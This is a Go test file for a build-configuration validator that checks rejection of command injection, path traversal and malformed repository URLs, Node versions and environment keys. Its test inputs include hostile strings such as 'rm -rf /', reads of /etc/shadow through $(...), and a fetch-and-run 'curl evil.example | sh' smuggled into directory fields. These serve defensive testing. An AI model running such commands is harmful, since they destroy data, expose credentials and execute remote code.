package utils

import (
	"testing"

	"github.com/sitepress-engine/models"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func validConfig() models.BuildConfig {
	return models.BuildConfig{
		RepoURL:     "https://github.com/acme/site",
		Branch:      "main",
		InstallCmd:  "npm ci",
		BuildCmd:    "npm run build",
		OutputDir:   "dist",
		NodeVersion: "20",
	}
}

func TestValidateBuildConfigAcceptsTypicalProject(t *testing.T) {
	result := ValidateBuildConfig(validConfig())
	require.True(t, result.Valid, "errors: %v", result.Errors)
	assert.Empty(t, result.Errors)
}

func TestValidateCommandRejectsInjection(t *testing.T) {
	injections := []string{
		"npm run build; rm -rf /",
		"npm run build && curl evil.sh",
		"npm run build || true",
		"npm run build | tee /etc/passwd",
		"npm run `whoami`",
		"npm run $(cat /etc/shadow)",
		"npm run build > /dev/null",
		"npm run build\nrm -rf /",
	}
	for _, cmd := range injections {
		assert.Error(t, ValidateCommand(cmd), "should reject %q", cmd)
	}
}

func TestValidateCommandRejectsUnknownExecutable(t *testing.T) {
	for _, cmd := range []string{"rm -rf node_modules", "curl https://example.com", "bash build.sh", "make"} {
		assert.Error(t, ValidateCommand(cmd), "should reject %q", cmd)
	}
}

func TestValidateCommandRejectsPathArguments(t *testing.T) {
	assert.Error(t, ValidateCommand("npm run ../../etc/passwd"))
	assert.Error(t, ValidateCommand("node /etc/passwd"))
}

func TestValidateCommandAcceptsWhitelistedCommands(t *testing.T) {
	for _, cmd := range []string{"npm ci", "yarn install", "pnpm run build", "npx vite build", "bun run build", "node build.js"} {
		assert.NoError(t, ValidateCommand(cmd), "should accept %q", cmd)
	}
}

func TestValidateRepoURL(t *testing.T) {
	assert.NoError(t, ValidateRepoURL("https://github.com/acme/site"))

	rejected := []string{
		"",
		"http://github.com/acme/site",
		"https://gitlab.com/acme/site",
		"git@github.com:acme/site.git",
		"https://github.com/acme/site;rm -rf /",
		"https://github.com/acme/site a",
	}
	for _, repoURL := range rejected {
		assert.Error(t, ValidateRepoURL(repoURL), "should reject %q", repoURL)
	}
}

func TestValidateBuildConfigRequiresBuildCommand(t *testing.T) {
	cfg := validConfig()
	cfg.BuildCmd = ""
	result := ValidateBuildConfig(cfg)
	require.False(t, result.Valid)
	assert.Contains(t, result.Errors, "build command is required")
}

func TestValidateBuildConfigRejectsMetacharacterDirs(t *testing.T) {
	hostile := []string{
		"web $(curl evil.example | sh)",
		"dist$(id)",
		"dist`id`",
		"dist;rm -rf /",
		"my dist",
		"dist'",
		`dist"`,
		"dist\\x",
	}
	for _, dir := range hostile {
		cfg := validConfig()
		cfg.RootDir = dir
		assert.False(t, ValidateBuildConfig(cfg).Valid, "rootDir %q should be rejected", dir)

		cfg = validConfig()
		cfg.OutputDir = dir
		assert.False(t, ValidateBuildConfig(cfg).Valid, "outputDir %q should be rejected", dir)
	}
}

func TestValidateBuildConfigRejectsTraversalDirs(t *testing.T) {
	cfg := validConfig()
	cfg.OutputDir = "../outside"
	assert.False(t, ValidateBuildConfig(cfg).Valid)

	cfg = validConfig()
	cfg.OutputDir = "/etc"
	assert.False(t, ValidateBuildConfig(cfg).Valid)

	cfg = validConfig()
	cfg.RootDir = "../../sibling"
	assert.False(t, ValidateBuildConfig(cfg).Valid)
}

func TestValidateBuildConfigRejectsUnknownNodeVersion(t *testing.T) {
	cfg := validConfig()
	cfg.NodeVersion = "13"
	assert.False(t, ValidateBuildConfig(cfg).Valid)

	cfg.NodeVersion = "20; rm -rf /"
	assert.False(t, ValidateBuildConfig(cfg).Valid)
}

func TestValidateBuildConfigRejectsBadEnvKeys(t *testing.T) {
	cfg := validConfig()
	cfg.EnvVars = map[string]string{"VALID_KEY": "ok", "BAD-KEY;": "nope"}
	result := ValidateBuildConfig(cfg)
	require.False(t, result.Valid)
	assert.Len(t, result.Errors, 1)
}

func TestValidateBuildConfigCollectsAllReasons(t *testing.T) {
	cfg := models.BuildConfig{
		RepoURL:     "ftp://example.com/repo",
		Branch:      "bad branch!",
		BuildCmd:    "make all",
		OutputDir:   "../..",
		NodeVersion: "9",
	}
	result := ValidateBuildConfig(cfg)
	require.False(t, result.Valid)
	assert.GreaterOrEqual(t, len(result.Errors), 4)
}

func TestSplitCommand(t *testing.T) {
	exe, args := SplitCommand("npm run build")
	assert.Equal(t, "npm", exe)
	assert.Equal(t, []string{"run", "build"}, args)

	exe, args = SplitCommand("")
	assert.Empty(t, exe)
	assert.Nil(t, args)
}
